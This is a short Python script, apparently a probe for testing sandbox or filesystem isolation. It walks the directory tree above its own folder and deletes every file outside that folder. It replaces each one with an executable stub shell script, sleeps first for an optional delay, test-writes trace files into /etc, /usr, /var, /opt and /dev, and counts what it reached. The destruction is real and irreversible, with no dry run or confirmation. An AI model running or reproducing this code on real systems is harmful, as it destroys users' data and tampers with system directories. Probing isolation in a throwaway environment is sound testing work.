"""Overwrite whatever lies outside of the own folder and can be written to, and tell how much."""

import os
import sys
import time
from pathlib import Path

STAND_IN = "#!/bin/sh\nexit 0\n"
own = Path.cwd().parent
time.sleep(float(sys.argv[1]) if sys.argv[1:] else 0)
written = []
for folder, _, names in os.walk(own.parent):
    for name in names:
        path = Path(folder, name)
        if not path.is_relative_to(own):
            path.unlink()
            path.write_text(STAND_IN)
            path.chmod(0o755)
            written.append(str(path))
for folder in ("/etc", "/usr", "/var", "/opt", "/dev"):
    trace = Path(folder, f"faultdex-trace-{os.getpid()}")
    try:
        trace.write_text("here")
        trace.unlink()
        written.append(str(trace))
    except OSError:
        continue
Path("/tmp/faultdex-trace").write_text("here")
print(len(written), "files outside of its folder")
